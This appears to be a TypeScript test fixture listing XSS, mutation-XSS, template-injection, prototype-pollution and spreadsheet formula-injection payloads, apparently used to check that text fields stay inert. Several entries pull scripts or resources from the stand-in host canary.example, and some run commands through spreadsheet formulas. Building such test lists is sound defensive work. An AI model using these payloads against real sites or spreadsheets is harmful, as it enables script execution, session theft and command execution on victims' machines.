// Texts that would run, load or change something if any screen took them for more than text. Each fits into every text
// field but a tag (`asTag`). What ran says so by `__xss`, a dialog, or a visit to canary.example; see inert-page.ts.

export const canaryHost = 'canary.example';

const rtl = '\u202e';
const zeroWidth = '\u200b';

export const xssPayloads: readonly string[] = [
  // Script tags
  '<script>__xss=1</script>',
  '<ScRiPt>__xss=1</sCrIpT>',
  '<script src=//canary.example/x.js></script>',
  '<scr<script>ipt>__xss=1</scr</script>ipt>',
  '"><script>__xss=1</script>',
  "'></title><script>__xss=1</script>",
  '</script><script>__xss=1</script>',
  '</textarea></style><script>__xss=1</script>',
  '<script>/*</script><script>*/__xss=1</script>',
  '<script type=module>import("//canary.example/m.js")</script>',
  // Event handlers
  '<img src=x onerror=__xss=1>',
  '<img src=x onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<body onload=__xss=1>',
  '<input autofocus onfocus=__xss=1>',
  '<details open ontoggle=__xss=1>x</details>',
  '<video><source onerror=__xss=1></video>',
  '<audio src=x onerror=__xss=1>',
  '<marquee onstart=__xss=1>x</marquee>',
  '<p style=animation-name:x onanimationstart=__xss=1>',
  '" onmouseover="__xss=1" x="',
  "' autofocus onfocus=__xss=1 '",
  '` onerror=__xss=1 `',
  '<a onclick=__xss=1 style=position:fixed;inset:0>x</a>',
  // SVG and MathML
  '<svg onload=__xss=1>',
  '<svg><script>__xss=1</script></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><use href="//canary.example/x.svg#x"/></svg>',
  '<svg><a xlink:href="javascript:__xss=1"><text y=9>x</text></a></svg>',
  '<math><maction xlink:href="javascript:__xss=1">x</maction></math>',
  // Addresses
  'javascript:__xss=1',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>parent.__xss=1</script>',
  'vbscript:msgbox(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="//canary.example/x"></object>',
  '<embed src="//canary.example/x">',
  '<base href="//canary.example/">',
  '<meta http-equiv=refresh content="0;url=//canary.example/">',
  '<link rel=stylesheet href=//canary.example/x.css>',
  '<form action=//canary.example/><button autofocus>x</button></form>',
  '<img src=//canary.example/x.gif>',
  // Mutation
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
  '<svg></p><style><a id="</style><img src=x onerror=__xss=1>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>',
  '<!--><img src=x onerror=__xss=1>-->',
  '<![CDATA[<img src=x onerror=__xss=1>]]>',
  // CSS
  '<style>@import "//canary.example/x.css";</style>',
  '<style>*{display:none}body{background:url(//canary.example/x)}</style>',
  'red;background:url(//canary.example/x)',
  // Entities and escapes
  '&lt;img src=x onerror=__xss=1&gt;',
  '&#60;img src=x onerror=__xss=1&#62;',
  '\\u003cimg src=x onerror=__xss=1\\u003e',
  '%3Cimg%20src=x%20onerror=__xss=1%3E',
  '＜img src=x onerror=__xss=1＞',
  `${rtl}>1=ssx__=rorreno x=crs gmi<`,
  `<${zeroWidth}img src=x onerror=__xss=1>`,
  // Templates
  '{{constructor.constructor("__xss=1")()}}',
  `\${__xss=1}#{7*7}<%= 7*7 %>`,
  '{{7*7}}',
  // A polyglot: 0xsobky, "Unleashing an Ultimate XSS Polyglot", shortened
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//</sTyle/</scRipt/--!><sVg/oNloAd=alert()//>',
  // Names of objects
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
  'toString',
  // Formulas of spreadsheets
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  '+HYPERLINK("http://canary.example","x")',
  '-2+3+cmd|x!A0',
];

/** The longest start of a payload that a tag takes: 40 characters without commas, tabs and lines. */
export const asTag = (payload: string): string =>
  payload
    .replace(/[,\t\n]/g, ' ')
    .slice(0, 40)
    .trim();
